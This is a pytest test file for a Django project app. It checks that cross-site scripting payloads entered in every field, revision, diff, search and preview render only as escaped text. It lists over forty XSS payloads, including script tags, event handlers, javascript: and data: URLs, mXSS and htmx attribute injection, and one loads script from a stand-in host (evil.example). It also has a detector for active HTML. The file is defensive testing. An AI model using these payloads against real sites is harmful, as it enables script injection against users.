"""Hostile text in every field of a project record renders nothing active on any page."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.urls import reverse
from django.utils.html import escape

from projects.sections import SECTION_KEYS
from tests.factories import create_project, save_revision

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "script-tag": "<script>alert(1)</script>",
    "script-src-upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-split": "<scr<script>ipt>alert(1)</script>",
    "script-nonce-guess": '<script nonce="abc" src="/static/js/cairn.js"></script>',
    "img-onerror": "<img src=x onerror=alert(1)>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "body-onload": "<body onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "a-onmouseover": '<a href="https://example.com" onmouseover="alert(1)">x</a>',
    "a-javascript": '<a href="javascript:alert(1)">x</a>',
    "a-javascript-entity": '<a href="&#x6A;avascript:alert(1)">x</a>',
    "a-javascript-tab": '<a href="java\tscript:alert(1)">x</a>',
    "a-data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "md-link-javascript": "[x](javascript:alert(1))",
    "md-link-mixed-case": "[x](JaVaScRiPt:alert(1))",
    "md-link-entities": "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1))",
    "md-link-data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-reference-javascript": "[x]: javascript:alert(1)\n\n[link][x]",
    "md-autolink-javascript": "<javascript:alert(1)>",
    "md-image-onerror": '![x](x" onerror="alert(1))',
    "md-attr-list": '[x](https://example.com){: onclick="alert(1)" hx-get="/" hx-trigger="load" }',
    "md-heading-attr-list": "## Heading {: onmouseover=alert(1) style=color:red }",
    "htmx-attributes": '<div hx-post="/projects/new/" hx-trigger="load">x</div>',
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "style-tag": "<style>body{background:url(javascript:alert(1))}</style>",
    "style-attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "math-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="javascript:alert(1)//">',
    "form-action": "<form action=javascript:alert(1)><button>x</button></form>",
    "attribute-break-double": '" onmouseover="alert(1)" x="',
    "attribute-break-single": "' onmouseover='alert(1)' x='",
    "attribute-break-json": "\"}' onclick='alert(1)",
    "textarea-break": "</textarea><script>alert(1)</script>",
    "title-break": "</title><script>alert(1)</script>",
    "entity-escaped-script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numeric-entity-script": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "comment-script": "<!-- --><script>alert(1)</script><!-- -->",
    "code-span": "`<script>alert(1)</script>`",
    "fenced-code": "```\n<script>alert(1)</script>\n```",
    "table-cell": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
}

# Elements no user text may produce. Images and links exist only as the page's own static files.
FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "style", "svg", "math", "base", "frame", "frameset",
    "template", "video", "audio", "source", "applet",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "poster"}
ALLOWED_SCHEMES = {"http", "https", "mailto"}
# The page's own scripts: same-origin static files carrying the request's CSP nonce.
STATIC_SCRIPT = re.compile(
    r'<script src="(/static/[\w./-]+)"(?: defer)? nonce="[\w+/=-]+"(?: defer)?></script>'
)
TAG = re.compile(r"<[a-zA-Z](?:\"[^\"]*\"|'[^']*'|[^'\">])*>")
QUOTED = re.compile(r"\"[^\"]*\"|'[^']*'")


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def _scheme(url: str) -> str | None:
    # As a browser reads a URL: leading and trailing controls and spaces trimmed, tabs and
    # newlines dropped anywhere.
    url = url.strip("".join(chr(c) for c in range(0x21)))
    url = url.replace("\t", "").replace("\n", "").replace("\r", "")
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", url)
    return match.group(1).lower() if match else None


def assert_inert(html: str, *, static_scripts: list[str]) -> None:
    """Nothing in html runs a script, loads a frame or restyles the page, beyond its own files."""
    assert STATIC_SCRIPT.findall(html) == static_scripts
    html = STATIC_SCRIPT.sub("", html)
    lowered = html.lower()

    assert "<script" not in lowered
    for tag in ("iframe", "object", "embed", "style", "svg", "math"):
        assert f"<{tag}" not in lowered, tag
    for tag in TAG.findall(html):
        assert not re.search(r"\son\w+\s*=", QUOTED.sub('""', tag), re.I), tag

    parser = _Elements()
    parser.feed(html)
    parser.close()
    # The header's own htmx element, the unread count, is on every page of a signed-in user.
    header_count = [
        attrs
        for tag, attrs in parser.elements
        if tag == "span" and attrs.get("id") == "notification-count"
    ]
    assert len(header_count) <= 1
    assert all(a.get("hx-get") == reverse("mentoring:notifications-count") for a in header_count)
    for tag, attrs in parser.elements:
        if header_count and attrs is header_count[0]:
            continue
        assert tag not in FORBIDDEN_TAGS, tag
        if tag in ("img", "link"):
            assert (attrs.get("src") or attrs.get("href") or "").startswith("/static/"), attrs
        if tag == "meta":
            assert "http-equiv" not in attrs, attrs
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name != "style", (tag, attrs)
            if name.startswith(("hx-", "data-hx-")):
                assert tag in ("body", "textarea"), (tag, attrs)
            if name in ("hx-get", "hx-post"):
                assert value == reverse("projects:preview"), (tag, attrs)
            if name in URL_ATTRIBUTES and value:
                assert _scheme(value) in ALLOWED_SCHEMES | {None}, (tag, name, value)
                assert "javascript:" not in value.lower(), (tag, name, value)


@pytest.fixture
def static_scripts(alice_client) -> list[str]:
    """The scripts a page without any payload loads."""
    return STATIC_SCRIPT.findall(alice_client.get(reverse("projects:list")).text)


def _hostile(payload: str, prefix: str = "") -> dict:
    """Content with the payload in every field a user types text into."""
    return {
        "title": f"{prefix}T {payload}"[:200],
        "summary": f"{prefix}{payload}"[:300],
        "tags": f"{payload}, {prefix}{payload}",
        "success_metric": f"{prefix}{payload}"[:80],
        **{key: f"{prefix}{payload}" for key in SECTION_KEYS},
    }


def test_the_checker_passes_a_page_without_payloads(alice, alice_client, static_scripts):
    project = create_project(owner=alice, problem="[docs](https://example.com) **bold**")

    assert len(static_scripts) == 2
    for url in (project.get_absolute_url(), reverse("projects:edit", args=[project.slug])):
        assert_inert(alice_client.get(url).text, static_scripts=static_scripts)


@pytest.mark.parametrize(
    "active",
    [
        "<script>alert(1)</script>",
        '<p title="a" onclick="alert(1)">x</p>',
        '<a href=" JaVa\tScRiPt:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        "<iframe></iframe>",
        "<img src=x>",
        '<p style="color:red">x</p>',
        "<svg></svg>",
        '<div hx-get="/" hx-trigger="load"></div>',
        '<script src="/static/js/evil.js"></script>',
    ],
)
def test_the_checker_catches_active_html(active):
    with pytest.raises(AssertionError):
        assert_inert(f"<p>{active}</p>", static_scripts=[])


def test_it_covers_at_least_twenty_payloads():
    assert len(PAYLOADS) >= 20


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_no_page_renders_a_hostile_record_as_active_content(
    alice, alice_client, static_scripts, payload
):
    project = create_project(owner=alice, change_note=payload[:200], **_hostile(payload))
    save_revision(project, change_note=payload[:200], **_hostile(payload, prefix="Then "))
    slug = project.slug

    pages = {
        "current": project.get_absolute_url(),
        "old revision": reverse("projects:revision", args=[slug, 1]),
        "diff 1 to 2": reverse("projects:diff", args=[slug]) + "?a=1&b=2",
        "history": reverse("projects:history", args=[slug]),
        "list": reverse("projects:list"),
        "edit": reverse("projects:edit", args=[slug]),
        "restore": reverse("projects:restore", args=[slug, 1]),
        "delete": reverse("projects:delete", args=[slug]),
    }
    responses = {name: alice_client.get(url) for name, url in pages.items()}
    responses["search"] = alice_client.get(
        reverse("projects:list"), {"q": payload, "skill": payload, "status": payload}
    )
    save_revision(project, **{key: "Plain text." for key in SECTION_KEYS}, title="Plain")
    responses["diff 2 to 3"] = alice_client.get(
        reverse("projects:diff", args=[slug]), {"a": 2, "b": 3}
    )

    for name, response in responses.items():
        assert response.status_code == 200, name
        assert_inert(response.text, static_scripts=static_scripts)
    # The payload did reach the pages, shown as text.
    assert escape(f"Then T {payload}"[:200]) in responses["current"].text
    assert escape(f"T {payload}"[:200]) in responses["old revision"].text
    assert "<ins>Then </ins>" in responses["diff 1 to 2"].text
    assert "<del>" in responses["diff 2 to 3"].text
    assert escape(payload[:200]) in responses["history"].text


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_the_preview_renders_a_hostile_section_as_nothing_active(
    alice_client, htmx_headers, payload
):
    for key in SECTION_KEYS:
        response = alice_client.post(
            reverse("projects:preview"), {"field": key, key: payload}, headers=htmx_headers
        )

        assert response.status_code == 200
        assert f'id="preview-{key}"' in response.text
        assert_inert(response.text, static_scripts=[])


def test_the_edit_page_shows_hostile_text_back_as_text(alice, alice_client):
    payload = PAYLOADS["textarea-break"]
    project = create_project(owner=alice, **_hostile(payload))

    response = alice_client.get(reverse("projects:edit", args=[project.slug]))

    escaped = "&lt;/textarea&gt;&lt;script&gt;alert(1)&lt;/script&gt;</textarea>"
    assert response.text.count(escaped) == len(SECTION_KEYS)
